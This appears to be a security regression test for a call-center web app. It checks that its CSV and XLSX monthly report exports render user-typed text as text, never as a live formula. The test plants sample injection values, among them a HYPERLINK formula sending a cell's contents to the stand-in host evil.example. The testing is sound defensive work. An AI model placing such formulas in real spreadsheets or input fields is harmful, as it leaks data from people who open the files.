"""Finding 4 (spreadsheet formula injection): text people typed — a model name, a city, an
engineer's name — reaches the CSV and XLSX exports as text, never as a live formula."""

from __future__ import annotations

import csv
import io

import aiohttp
from openpyxl import load_workbook
from sqlalchemy import update

from callcenter.appkeys import AUTH, ENGINE
from callcenter.db.models import Address, Appliance, User, WorkOrder
from callcenter.spreadsheets import FORMULA_STARTS
from tests import apphelpers as h
from tests.reportworld import MONTH, seed_month

EVIL_MODEL = '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")'
EVIL_CITY = "+SUM(1,2)"
EVIL_NAME = "@cmd"


def _is_formula_text(text: str) -> bool:
    if not text.startswith(FORMULA_STARTS):
        return False
    try:
        float(text.replace(",", "").rstrip("%"))
        return False
    except ValueError:
        return True


async def test_every_export_cell_is_text_never_a_formula(sqlite_url, aiohttp_client) -> None:  # type: ignore[no-untyped-def]
    client = await h.start(aiohttp_client, h.settings_for(sqlite_url, 1))
    app = client.server.app
    await seed_month(app[ENGINE])
    async with app[ENGINE].begin() as c:
        await c.execute(update(Appliance).values(model=EVIL_MODEL).where(Appliance.model == "BCD-470WDPG"))
        await c.execute(update(WorkOrder).values(product_model=EVIL_MODEL).where(WorkOrder.product_model == "BCD-470WDPG"))
        await c.execute(update(Address).values(city=EVIL_CITY).where(Address.district == "朝阳区"))
        await c.execute(update(User).values(display_name=EVIL_NAME).where(User.username == "eng2"))
    await app[AUTH].add_user("boss", role="supervisor", password=h.PASSWORD)
    async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as s:
        r = await s.post(client.make_url("/api/session"), json={"username": "boss", "password": h.PASSWORD})
        assert r.status == 200
        url = client.make_url("/api/reports/monthly")
        r = await s.get(url, params={"month": MONTH, "format": "csv"})
        assert r.status == 200
        cells = [c for row in csv.reader(io.StringIO((await r.read()).decode("utf-8-sig"))) for c in row]
        r = await s.get(url, params={"month": MONTH, "format": "xlsx"})
        assert r.status == 200
        book = load_workbook(io.BytesIO(await r.read()))
    assert "'" + EVIL_MODEL in cells and any(c.startswith("'+") for c in cells)  # shown, as text
    assert [c for c in cells if _is_formula_text(c)] == []
    xcells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
    assert [c.coordinate for c in xcells if c.data_type == "f"] == []
    texts = [c.value for c in xcells if isinstance(c.value, str)]
    assert "'" + EVIL_MODEL in texts and any(t.startswith("'+") for t in texts)
    assert [t for t in texts if _is_formula_text(t)] == []
